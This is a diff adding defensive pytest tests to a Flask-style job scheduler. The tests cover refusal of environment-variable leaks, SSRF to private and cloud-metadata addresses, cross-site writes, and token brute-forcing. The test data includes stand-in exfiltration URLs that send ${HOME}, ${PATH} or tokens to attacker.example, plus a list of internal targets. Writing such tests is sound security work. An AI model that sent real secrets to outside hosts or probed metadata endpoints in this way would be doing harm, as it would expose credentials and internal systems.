@@ -503,8 +503,91 @@ def test_command_is_accepted_when_allow_http_commands_is_true(env):
     assert env.client.get("/api/scheduler/job/c").get_json()["job"]["command"] == "echo hi"
 
 
+ENV_THROUGH_API = [
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/?home=${HOME}&path=${PATH}"}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": ["https://example.com/", "https://attacker.example/${HOME}"]}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://${HOME}.attacker.example/"}, "url"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/",
+                                "headers": {"X-Home": "${HOME}"}}, "headers"),
+    ("/api/scheduler/job/add", {"name": "Leak", "hour": 9, "url": "https://attacker.example/",
+                                "headers": {"Authorization": "Bearer ${NEWS_TOKEN} ${HOME}"}}, "headers"),
+    ("/api/scheduler/start", {"mode": "daily", "hour": 9, "url": "https://attacker.example/?p=${PATH}"}, "url"),
+]
+
+
+@pytest.mark.parametrize(("path", "body", "field"), ENV_THROUGH_API, ids=[f"{p.rsplit('/', 1)[1]}-{f}-{i}" for i, (p, _b, f) in enumerate(ENV_THROUGH_API)])
+def test_an_environment_variable_through_the_api_is_refused_unless_allowed(env, path, body, field):
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN"]\n')
+    env.add(name="Existing", hour=1, url="https://example.com/")
+    before = env.file_bytes()
+    response = env.client.post(path, json=body)
+    assert response.status_code == 422, response.get_json()
+    error = response.get_json()["error"]
+    assert error.startswith(f"{field}:") and "allow_http_env" in error and "NEWS_TOKEN" not in error.split(":")[1], error
+    assert ("${HOME}" in error) or ("${PATH}" in error)
+    assert env.file_bytes() == before
+
+
+def test_allowed_environment_variables_are_accepted_through_the_api(env):
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN", "REGION"]\n')
+    env.add(name="Ok", hour=9, url="https://${REGION}.example.com/news", headers={"Authorization": "Bearer ${NEWS_TOKEN}"})
+    assert env.client.post("/api/scheduler/start", json={"mode": "hourly", "url": "https://example.com/?r=${REGION}"}).status_code == 200
+    text = env.jobs_file.read_text()
+    assert "https://${REGION}.example.com/news" in text and "Bearer ${NEWS_TOKEN}" in text and "?r=${REGION}" in text
+
+
+def test_text_that_is_not_a_variable_is_not_refused(env):
+    env.add(name="Dollar", hour=9, url="https://example.com/?price=$5&x=${1}")
+
+
+@pytest.mark.parametrize("value", ['"HOME"', '["1ABC"]', '["A B"]', '[1]', '["${HOME}"]'])
+def test_a_bad_allow_http_env_names_the_key(env, value):
+    from crawlsched.errors import JobFileError
+
+    write_jobs(env.home, f'[defaults]\ntimezone = "UTC"\nallow_http_env = {value}\n')
+    with pytest.raises(JobFileError) as info:
+        JobStore(env.jobs_file).load()
+    message = str(info.value)
+    assert "defaults.allow_http_env:" in message and "variable names" in message, message
+
+
+PRIVATE_TARGETS = [
+    ("http://127.0.0.1:9/", "loopback"), ("http://localhost/x", "loopback"), ("http://[::1]:80/", "loopback"),
+    ("http://169.254.169.254/latest/meta-data/", "link-local"), ("http://10.1.2.3/", "private"),
+    ("http://192.168.0.1/admin", "private"), ("http://[fd00::1]/", "private"), ("http://0.0.0.0:5000/", "public"),
+    ("http://100.64.0.1/", "public"),
+]
+
+
+@pytest.mark.parametrize(("url", "kind"), PRIVATE_TARGETS, ids=[u for u, _k in PRIVATE_TARGETS])
+def test_with_http_targets_public_the_api_refuses_a_private_target(env, url, kind):
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nhttp_targets = "public"\n')
+    before = env.file_bytes()
+    for path, body in (("/api/scheduler/job/add", {"name": "ssrf", "hour": 9, "url": ["https://example.com/", url]}),
+                       ("/api/scheduler/start", {"mode": "daily", "hour": 9, "url": url})):
+        response = env.client.post(path, json=body)
+        assert response.status_code == 422, response.get_json()
+        error = response.get_json()["error"]
+        assert error.startswith("url:") and kind in error and 'http_targets = "public"' in error, error
+    assert env.file_bytes() == before
+
+
+def test_by_default_the_api_may_add_a_loopback_target(env):
+    env.add(name="Local", hour=9, url="http://127.0.0.1:9/")
+
+
+def test_a_bad_http_targets_names_the_key(env):
+    from crawlsched.errors import JobFileError
+
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nhttp_targets = "private"\n')
+    with pytest.raises(JobFileError) as info:
+        JobStore(env.jobs_file).load()
+    assert "defaults.http_targets:" in str(info.value) and '"any" or "public"' in str(info.value)
+
+
 def test_secrets_never_appear_in_any_response(env, monkeypatch):
     monkeypatch.setenv("NEWS_TOKEN", "s3cr3t-token-value")
+    write_jobs(env.home, '[defaults]\ntimezone = "UTC"\nallow_http_env = ["NEWS_TOKEN"]\n')
     env.add(name="Secret", hour=9, url="https://user:hunter2@example.com/news",
             headers={"Authorization": "Bearer ${NEWS_TOKEN}", "X-Key": "plain-secret-value"})
     env.turn()
@@ -542,6 +625,67 @@ def test_other_host_headers_are_refused_without_a_token(env, host):
     assert env.file_bytes() == before
 
 
+CROSS_SITE = [
+    {"Origin": "http://127.0.0.1:8001"},  # another port of the same host: same-site, another origin
+    {"Origin": "https://evil.example"},
+    {"Origin": "null"},  # a sandboxed frame or a file: page
+    {"Origin": "http://127.0.0.1"},  # port 80, not 5000
+    {"Origin": "http://127.0.0.1:5000/path"},  # not an origin at all
+    {"Sec-Fetch-Site": "cross-site"},
+    {"Sec-Fetch-Site": "same-site"},
+]
+WRITES = [("POST", "/api/scheduler/stop"), ("POST", "/api/scheduler/run-now"), ("POST", "/api/scheduler/start"),
+          ("DELETE", "/api/scheduler/job/a"), ("POST", "/api/scheduler/job/a/pause"), ("PUT", "/api/scheduler/job/a"),
+          ("PATCH", "/api/scheduler/job/a")]
+
+
+@pytest.mark.parametrize("headers", CROSS_SITE, ids=lambda h: "-".join(f"{k}={v}" for k, v in h.items()))
+def test_a_write_from_another_site_is_refused_with_or_without_a_body(env, headers):
+    env.add(name="A", hour=9, url="https://example.com/")
+    before = env.file_bytes()
+    for method, path in WRITES:
+        for kwargs in ({}, {"json": {}}, {"data": b"", "content_type": "text/plain"}):
+            response = env.client.open(path, method=method, headers=headers, **kwargs)
+            assert response.status_code == 403, (method, path, kwargs, response.get_json())
+            body = response.get_json()
+            assert body["success"] is False and "another site" in body["error"], body
+    assert env.file_bytes() == before
+    assert env.daemon.state.runs("a", 10) == []
+
+
+def test_a_write_from_another_site_is_refused_with_a_token_too(token_env):
+    before = token_env.file_bytes()
+    response = token_env.client.post("/api/scheduler/stop", headers={
+        "Origin": "http://attacker.example", "Authorization": "Bearer s3cret-token"})
+    assert response.status_code == 403 and response.get_json()["success"] is False
+    assert token_env.file_bytes() == before
+
+
+@pytest.mark.parametrize("headers", [
+    {"Origin": "http://127.0.0.1:5000"},  # the page's own fetch
+    {"Origin": "HTTP://127.0.0.1:5000"},
+    {"Sec-Fetch-Site": "same-origin"},
+    {"Sec-Fetch-Site": "none"},  # typed by the user
+    {"Origin": "http://127.0.0.1:5000", "Sec-Fetch-Site": "same-origin"},
+    {},  # curl: neither header
+], ids=lambda h: "-".join(f"{k}={v}" for k, v in h.items()) or "none")
+def test_writes_from_the_page_itself_and_from_curl_are_served(env, headers):
+    env.add(name="A", hour=9, url="https://example.com/")
+    assert env.client.post("/api/scheduler/stop", headers=headers).status_code == 200
+    assert env.client.post("/api/scheduler/start", headers=headers, json={}).status_code == 200
+
+
+def test_a_write_from_the_origin_of_a_proxy_in_front_is_served(token_env):
+    """Behind a TLS proxy the Origin is https://name (port 443) and the Host header is name, port left out."""
+    response = token_env.client.post("/api/scheduler/stop", headers={
+        "Host": "sched.example.com", "Origin": "https://sched.example.com", "Authorization": "Bearer s3cret-token"})
+    assert response.status_code == 200, response.get_json()
+
+
+def test_reads_from_another_site_are_not_refused_by_the_origin_check(env):
+    assert env.client.get("/api/scheduler/jobs", headers={"Origin": "https://evil.example"}).status_code == 200
+
+
 @pytest.fixture
 def token_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
     monkeypatch.setenv("TZ", "UTC")
@@ -573,6 +717,43 @@ def test_with_a_token_writes_need_it_and_change_nothing_without(token_env):
     assert ok.status_code == 200
 
 
+def test_wrong_tokens_are_answered_429_at_once_after_ten_a_minute_from_one_address(token_env, caplog):
+    client, throttle = token_env.client, token_env.app.extensions["crawlsched.token_failures"]
+    now = [1000.0]
+    throttle.clock = lambda: now[0]
+    caplog.set_level(logging.INFO)
+    codes = [client.get("/api/scheduler/jobs", headers={"Authorization": f"Bearer guess-{i}"}).status_code
+             for i in range(30)]
+    assert codes == [401] * 10 + [429] * 20
+    # Locked out, even with the right token: a lock that the right guess opened would leak it.
+    locked = client.get("/api/scheduler/jobs", headers={"Authorization": "Bearer s3cret-token"})
+    assert locked.status_code == 429 and locked.get_json()["success"] is False
+    assert 1 <= int(locked.headers["Retry-After"]) <= 60
+    other = client.get("/api/scheduler/jobs", headers={"Authorization": "Bearer s3cret-token"},
+                       environ_base={"REMOTE_ADDR": "127.0.0.9"})
+    assert other.status_code == 200  # another address is not held up
+    assert client.get("/healthz").status_code == 200
+    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
+    assert len(warnings) == 2, warnings  # the first failure and the lock-out, not one line per guess
+    assert all("127.0.0.1" in w for w in warnings)
+    assert not [w for w in warnings if "guess-" in w or "s3cret-token" in w]
+    now[0] += 61
+    assert client.get("/api/scheduler/jobs", headers={"Authorization": "Bearer s3cret-token"}).status_code == 200
+
+
+def test_a_request_without_a_token_is_not_counted_as_a_guess(token_env):
+    for _ in range(20):
+        assert token_env.client.get("/api/scheduler/jobs").status_code == 401  # the page before it asks
+    assert token_env.client.get("/api/scheduler/jobs", headers={"Authorization": "Bearer s3cret-token"}).status_code == 200
+
+
+def test_failed_token_addresses_are_bounded_in_memory(token_env):
+    throttle = token_env.app.extensions["crawlsched.token_failures"]
+    for i in range(throttle.max_clients + 500):
+        throttle.failed(f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}", "GET", "/api/scheduler/jobs")
+    assert len(throttle.clients) <= throttle.max_clients
+
+
 @pytest.mark.parametrize("path", ["/healthz", "/scheduler", "/static/scheduler.js", "/static/scheduler.css"])
 def test_with_a_token_the_page_and_healthz_load_without_it(token_env, path):
     assert token_env.client.get(path).status_code == 200
@@ -598,15 +779,34 @@ def test_start_server_refuses_a_malformed_address(env, bind):
     assert info.value.exit_code == 2
 
 
+@pytest.mark.parametrize("token", ["a", "t0ken-value", "0123456789abcdef0123456789abcde",  # 31 hex
+                                   "Zm9vYmFyYmF6cXV4cXV1eA"[:21]])
+def test_start_server_refuses_a_short_token_on_a_non_loopback_address(env, token):
+    with pytest.raises(WebConfigError) as info:
+        start_server(env.daemon, "0.0.0.0:0", token=token)
+    message = str(info.value)
+    assert info.value.exit_code == 2 and "128 bits" in message and "32 hex" in message and "22" in message
+    assert len(token) < 5 or token not in message
+
+
+@pytest.mark.parametrize("token", ["a", "short"])
+def test_a_short_token_is_fine_on_loopback(env, token):
+    server = start_server(env.daemon, "127.0.0.1:0", token=token)
+    server.close()
+
+
+STRONG_TOKEN = "Zm9vYmFyYmF6cXV4cXV1eA"  # 22 base64 characters: 132 bits
+
+
 def test_start_server_serves_a_non_loopback_address_with_a_token(env):
     import requests
 
-    server = start_server(env.daemon, "0.0.0.0:0", token="t0ken-value")
+    server = start_server(env.daemon, "0.0.0.0:0", token=STRONG_TOKEN)
     try:
         assert server.port > 0
         base = f"http://127.0.0.1:{server.port}"
         assert requests.get(f"{base}/api/scheduler/jobs", timeout=5).status_code == 401
-        ok = requests.get(f"{base}/api/scheduler/jobs", headers={"Authorization": "Bearer t0ken-value"}, timeout=5)
+        ok = requests.get(f"{base}/api/scheduler/jobs", headers={"Authorization": f"Bearer {STRONG_TOKEN}"}, timeout=5)
         assert ok.status_code == 200 and ok.json()["success"] is True
         assert requests.get(f"{base}/healthz", timeout=5).json() == {"ok": True}
     finally:
